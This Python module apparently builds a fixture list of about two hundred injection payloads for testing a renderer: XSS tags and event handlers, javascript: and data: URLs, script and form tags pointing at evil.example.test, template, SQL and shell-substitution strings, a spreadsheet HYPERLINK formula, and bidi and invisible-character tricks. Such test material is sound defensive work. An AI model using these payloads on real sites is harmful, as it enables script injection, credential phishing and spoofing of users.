"""Two hundred texts that try to become more than text: markup, addresses, templates, directions of reading, towers of marks.

Each that would run sets `window.hit`. Invented here; the kinds are those of reliability.md 2-H.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.hit=1"
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "ontoggle",
    "onbegin",
    "oncut",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe src=x",
    "object data=x",
)
_BREAKS = ('">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "]]>", "</option></select>", "</noscript>")
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    " javascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "vbscript:{}",
    "//evil.example.test/%3Cscript%3E",
    "https://evil.example.test/?q=<script>{}</script>",
    "https://user:pass@evil.example.test",
    "https://example.test\\@evil.example.test/",
    "https://xn--pple-43d.example.test/login",
    "file:///etc/passwd",
    "blob:https://evil.example.test/1",
    "#token=fake-stolen",
)
_WHOLE = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example.test/x.js></script>",
    "<script type=module>{}</script>",
    "<style>*{{display:none}}</style>",
    "<link rel=stylesheet href=//evil.example.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example.test'>",
    "<base href=//evil.example.test/>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<form action=//evil.example.test><button>log in again</button></form>",
    "<a href='javascript:{}'>press here</a>",
    "<math><mtext></p><script>{}</script></mtext></math>",
    "<svg><script>{}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'></use></svg>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "#{{{}}}",
    "`;{};//",
    "';{};//",
    '";{};//',
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><x onload='{}'/>",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "null",
    "undefined",
    "NaN",
    "-1",
    "'; DROP TABLE message; --",
    "' OR 1=1 --",
    "$(touch /tmp/x)",
    '=HYPERLINK("https://evil.example.test")',
    'data: {{"kind":"pause"}}',
    "event: pulse",
    "id: 1",
    "retry: 1",
    "<b>bold</b> <i>lean</i>",
    "<mark>a</mark><bdo dir=rtl>txet</bdo>",
)
_STEERING = (
    "\u202egnp.exe",
    "harmless\u202e txt.exe",
    "\u202dforced left",
    "\u2066isolate\u2069 and on",
    "\u2067right isolate never closed",
    "\u2068first strong\u2069",
    "\u200frtl mark\u200e ltr mark",
    "\u061carabic letter mark",
    "שלום world \u202eabc",
    "مرحبا <script>{}</script>",
    "in\u200bvis\u200bible",
    "\ufeffbyte order",
    "soft\u00adhyphen",
    "word\u2060joiner",
    "tag\U000e0041\U000e0042s",
    "\U000e0001language",
    "hangul\u3164filler\u115f\u1160",
    "half\uffa0width",
    "line\u2028separator\u2029paragraph",
    "vertical\u000btab\u000cfeed",
    "bell\u0007 escape\u001b[31mred",
    "next\u0085line\u009f",
    "a" + "\u0301" * 300,
    "Z\u0336\u0337\u0338a\u0334\u0335lgo" + "\u035d\u0361" * 100,
    "\u0e49" * 200,
    "W" * 2000,
    "﷽" * 60,
    "👩‍👩‍👧‍👦 family 🏳️‍🌈",
    "नमस्‍ते क्‍ष",
    "می‌خواهم",
    "ＦＵＬＬ ｗｉｄｔｈ <ｓｃｒｉｐｔ>",
    "аdmin (cyrillic)",
    "\u202e" * 50 + "end",
    "\t\t\ttabs",
    "many\n\n\n\n\nlines\nof text",
)


def _all() -> Iterator[str]:
    yield from (f"<{tag} {event}={RUN}>" for tag in _TAGS for event in _EVENTS[:7])
    yield from (f"{end}<img src=x onerror={RUN}>" for end in _BREAKS)
    yield from (f'{end} {event}="{RUN}" x="' for end, event in zip("\"'` /=\t\n;&", _EVENTS, strict=True))
    yield from (one.format(RUN) if "{}" in one else one for one in _ADDRESSES)
    yield from (one.format(RUN) for one in _WHOLE)
    yield from (one.replace("{}", RUN) for one in _STEERING)
    yield from (f"<p style='position:fixed;inset:{at}px;z-index:{at}'>over all" for at in range(12))


PAYLOADS = list(dict.fromkeys(_all()))
